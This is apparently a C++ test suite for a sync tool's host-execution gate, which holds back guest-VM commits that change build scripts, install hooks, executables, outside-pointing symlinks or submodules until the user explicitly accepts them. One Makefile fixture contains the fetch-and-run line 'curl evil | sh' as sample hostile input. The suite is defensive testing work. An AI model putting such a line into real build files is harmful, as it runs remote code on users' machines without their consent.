// The host-execution gate in a whole sync: what waits, what passes, and what an acceptance covers.
#include <set>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "sync/sync.hpp"
#include "tests/contract/sync/sync_fixture.hpp"
#include "tests/support/fake_streams.hpp"
#include "vmm/base/files.hpp"

namespace agentvm::sync {
namespace {

using test::FakeStreams;
using test::Repo;
using testing::Contains;
using testing::HasSubstr;

class GateTest : public test::HostAndGuest {
 protected:
  GateTest() : HostAndGuest("Makefile", "all:\n\ttrue\n") {}
  SyncOutcome sync(const SyncRequest& wanted) {
    return sync_now(wanted, streams, no_progress(), Deadline::after(std::chrono::seconds(60)));
  }
  SyncOutcome sync() { return sync(request()); }
  SyncOutcome accept() {
    auto wanted = request();
    wanted.accept = true;
    return sync(wanted);
  }
  /// Nothing of the user's moved, the commits are there, and the answer says what to do.
  void expect_gated(const SyncOutcome& outcome) {
    EXPECT_EQ(outcome.result, Result::gated);
    EXPECT_EQ(outcome.exit_code(), 6);
    EXPECT_FALSE(outcome.moved);
    EXPECT_NE(host.tip(), guest.tip());
    EXPECT_EQ(host.tip("refs/agentvm/box/main"), guest.tip());
    EXPECT_EQ(host.status(), "");
    EXPECT_THAT(outcome.commands, Contains("agentvm sync box --accept"));
  }

  FakeStreams streams;
};

TEST_F(GateTest, CleanCommitsPassAndChangedScriptsWait) {
  guest.commit("a.txt", "1\n");
  EXPECT_TRUE(sync().moved);
  guest.commit("Makefile", "all:\n\ttrue\n\ncurl evil | sh\nmore\nand more\nnot shown\n");
  guest.commit("b.txt", "1\n");
  const auto outcome = sync();
  expect_gated(outcome);
  ASSERT_EQ(outcome.gated.size(), 1u);
  EXPECT_EQ(outcome.gated[0].path, "Makefile");
  EXPECT_EQ(outcome.gated[0].kind, "build-script");
  EXPECT_EQ(outcome.gated[0].excerpt, "curl evil | sh\nmore\nand more");
  const auto text = to_text(outcome);
  EXPECT_THAT(text, HasSubstr("build-script: Makefile\n      curl evil | sh\n"));
  EXPECT_THAT(text, HasSubstr("agentvm sync box --accept"));
  expect_gated(sync());  // asking again is no acceptance
  const auto accepted = accept();
  EXPECT_TRUE(accepted.moved);
  EXPECT_EQ(accepted.gated.size(), 1u);
  EXPECT_EQ(host.tip(), guest.tip());
  EXPECT_FALSE(fs::exists(dir / "scratch/gate-shown.json"));
}

/// The guest knows when it is asked about, and commits while the user reads.
TEST_F(GateTest, AnAcceptanceCoversWhatWasShown) {
  guest.commit("Makefile", "all:\n\tmake test\n");
  expect_gated(sync());
  guest.commit("notes.txt", "harmless\n");
  guest.commit("package.json", "{\"scripts\": {\"postinstall\": \"evil\"}}\n");
  const auto outcome = accept();
  expect_gated(outcome);
  EXPECT_THAT(outcome.reason, HasSubstr("1 of these were not listed"));
  EXPECT_EQ(outcome.gated_count, 2u);
  guest.commit("Makefile", "all:\n\tevil\n");  // the same path, another content
  expect_gated(accept());
  guest.commit("plain.txt", "what needs no question does not take the answer away\n");
  EXPECT_TRUE(accept().moved);
}

TEST_F(GateTest, AcceptWithoutAQuestionTakesNothing) {
  guest.commit(".envrc", "evil\n");
  const auto outcome = accept();
  expect_gated(outcome);
  EXPECT_EQ(outcome.gated.size(), 1u);
  EXPECT_TRUE(accept().moved);  // it was listed now
}

/// Another version's file, or half a one: nothing was shown then, and the sync goes on.
TEST_F(GateTest, WhatIsRememberedInAnotherFormCoversNothing) {
  guest.commit(".envrc", "evil\n");
  expect_gated(sync());
  for (const auto* text : {"{\"branch\": \"x\", \"entries\": []}", "{\"subject\": 1}", "{"}) {
    write_file_atomic(dir / "scratch/gate-shown.json", text);
    expect_gated(accept());
  }
  EXPECT_TRUE(accept().moved);
}

/// A live mode asks the gate after each commit; the user saw the list of before.
TEST_F(GateTest, WhatASyncByItselfFoundWasShownToNobody) {
  guest.commit("Makefile", "all:\n\tmake test\n");
  expect_gated(sync());
  guest.commit(".envrc", "evil\n");
  auto by_itself = request();
  by_itself.listed = false;
  expect_gated(sync(by_itself));
  const auto outcome = accept();
  expect_gated(outcome);
  EXPECT_THAT(outcome.reason, HasSubstr("1 of these were not listed"));
}

/// The guest shows one branch and has another checked out when the answer comes.
TEST_F(GateTest, AnAcceptanceIsForOneBranch) {
  const auto first = guest.tip();
  guest.commit("Makefile", "all:\n\tmake test\n");
  expect_gated(sync());
  guest.git({"reset", "--quiet", "--hard", first});
  guest.git({"checkout", "--quiet", "-b", "evil"});
  guest.commit("Makefile", "all:\n\tmake test\n");  // what was shown, of the other branch
  guest.commit(".envrc", "evil\n");
  const auto outcome = accept();
  EXPECT_EQ(outcome.result, Result::gated);
  EXPECT_THAT(outcome.reason, HasSubstr("2 files may run"));
  EXPECT_EQ(host.tip(), first);
  EXPECT_EQ(outcome.branch, "evil");
  EXPECT_EQ(outcome.gated.at(0).path, ".envrc");
}

TEST_F(GateTest, ExecutablesLinksAndSubmodules) {
  guest.write("tool", "#!/bin/sh\n", true);
  fs::create_symlink("../../outside", guest.path() / "link");
  fs::create_symlink("Makefile", guest.path() / "fine");
  guest.git({"add", "-A"});
  guest.git({"update-index", "--add", "--cacheinfo", "160000," + guest.tip() + ",dep"});
  guest.git({"commit", "--quiet", "-m", "x"});
  const auto outcome = sync();
  expect_gated(outcome);
  std::map<std::string, std::string> seen;
  for (const auto& path : outcome.gated) seen[path.path] = path.kind + " " + path.excerpt;
  EXPECT_EQ(seen, (std::map<std::string, std::string>{{"dep", "submodule commit " + host.tip()},
                                                      {"link", "symlink-out -> ../../outside"},
                                                      {"tool", "executable #!/bin/sh"}}));
}

TEST_F(GateTest, PolicyAllowsAndDenies) {
  guest.commit("Makefile", "all:\n\tmake test\n");
  auto wanted = request();
  wanted.gate = {{"Makefile"}, {"docs/"}, {}};
  EXPECT_TRUE(sync(wanted).moved);
  guest.commit("docs/a.md", "text\n");
  EXPECT_EQ(sync(wanted).gated.at(0).kind, "denied-path");
}

TEST_F(GateTest, DryRunShowsAllOfIt) {
  guest.commit("Makefile", "all:\n\tevil\n");
  auto wanted = request();
  wanted.dry_run = true;
  const auto before = host.refs();
  const auto outcome = sync(wanted);
  EXPECT_EQ(outcome.result, Result::gated);
  EXPECT_EQ(outcome.gated.size(), 1u);
  EXPECT_EQ(host.refs(), before);
}

/// Where the branch does not move anyway, the commands that we print would bring the files: they are named there too.
TEST_F(GateTest, DivergedAndOtherBranchesListWhatTheyBring) {
  guest.commit("Makefile", "all:\n\tevil\n");
  host.commit("own.mk", "mine, not the guest's\n");
  const auto outcome = sync();
  EXPECT_EQ(outcome.result, Result::diverged);
  ASSERT_EQ(outcome.gated.size(), 1u);
  EXPECT_EQ(outcome.gated[0].path, "Makefile");
}

TEST_F(GateTest, HostileNamesAndContentAreCleanedAndBounded) {
  guest.write("\x1b[31m\n\xff/Makefile", "\x1b]0;x\x07\n" + std::string(100'000, 'x'));
  for (int i = 0; i < 150; ++i) guest.write("d" + std::to_string(i) + "/.envrc", "x\n");
  guest.write("package.json", std::string(300'000, 'y'));
  guest.git({"add", "-A"});
  guest.git({"commit", "--quiet", "-m", "x"});
  const auto outcome = sync();
  expect_gated(outcome);
  EXPECT_EQ(outcome.gated_count, 152u);
  EXPECT_EQ(outcome.gated.size(), 100u);
  const auto text = to_text(outcome) + dump_json(to_json(outcome));
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  EXPECT_LT(text.size(), 100'000u);
  EXPECT_THAT(text, HasSubstr("... and 52 more"));
  // An acceptance covers what was listed; what was not comes first in the next list.
  const auto rest = accept();
  expect_gated(rest);
  EXPECT_THAT(rest.reason, HasSubstr("52 of these were not listed"));
  std::set<std::string> listed;
  for (const auto* each : {&outcome, &rest})
    for (const auto& file : each->gated) listed.insert(file.path);
  EXPECT_EQ(listed.size(), 152u);
  EXPECT_TRUE(accept().moved);
}

}  // namespace
}  // namespace agentvm::sync
